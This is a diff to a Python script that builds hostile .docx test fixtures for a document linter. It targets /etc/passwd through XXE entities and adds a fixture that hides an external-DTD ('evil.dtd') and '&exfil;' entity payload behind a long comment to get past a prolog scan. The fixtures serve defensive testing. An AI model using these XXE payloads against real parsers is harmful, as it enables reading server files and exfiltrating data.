@@ -25,9 +25,10 @@ OUT = ROOT / "Fixtures/hostile"
 GOOD_PLAN = ROOT / "Fixtures/markdown/good/ke-hoach-nam-2021.md"
 MAX_COMMITTED_SIZE = 200 * 1024
 
-# Where the XXE fixtures point. /etc/hostname exists on any Linux; the canary is written by
-# the tests (HostileCorpusTests) so they know exactly what must never appear in any output.
-LOCAL_SECRET = "/etc/hostname"
+# Where the XXE fixtures point. /etc/passwd exists on any Linux and its first line
+# ("root:x:0:0:…") is easy to search for; the canary is written by the tests
+# (HostileCorpusTests) so they know exactly what must never appear in any output.
+LOCAL_SECRET = "/etc/passwd"
 CANARY = "/tmp/kehoach-lint-xxe-canary.txt"
 # Nothing listens here; the tests listen on it to prove no connection is ever made.
 UNUSED_URL = "http://127.0.0.1:47913"
@@ -393,6 +394,14 @@ def corpus():
                 f'<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "{UNUSED_URL}/evil.dtd"> %remote;]>\n'))),
             "malformed-xml",
         ),
+        # The same, past the prolog scan: libxml2 itself must neither fetch nor load anything.
+        "doctype-url-after-long-comment.docx": (
+            docx(document(paragraph("&exfil;"), prolog=(
+                f"<!--{'x' * 20_000}-->\n"
+                f'<!DOCTYPE w:document SYSTEM "{UNUSED_URL}/ke-hoach.dtd" '
+                f'[<!ENTITY % remote SYSTEM "{UNUSED_URL}/evil.dtd"> %remote;]>\n'))),
+            "malformed-xml",
+        ),
         "doctype-local-file.docx": (
             docx(document(PLAIN_BODY, prolog='<!DOCTYPE w:document SYSTEM "file:///etc/passwd">\n')),
             "malformed-xml",
@@ -426,7 +435,8 @@ def large(folder):
     folder.mkdir(parents=True, exist_ok=True)
     generator = random.Random(50)
     words = "kế hoạch ứng dụng công nghệ thông tin chính quyền số an toàn dữ liệu năm huyện tỉnh dự án".split()
-    text = " ".join(generator.choice(words) for _ in range(6_000_000))[: 50 * 1024 * 1024]
+    text = " ".join(generator.choice(words) for _ in range(9_000_000))
+    text = text.encode()[: 50 * 1024 * 1024].decode("utf-8", "ignore")
     # 50 MB of text in one paragraph, compressing far less than the 200:1 ratio limit.
     runs = "".join(
         f'<w:r><w:t xml:space="preserve">{text[i:i + 65536]}</w:t></w:r>' for i in range(0, len(text), 65536)
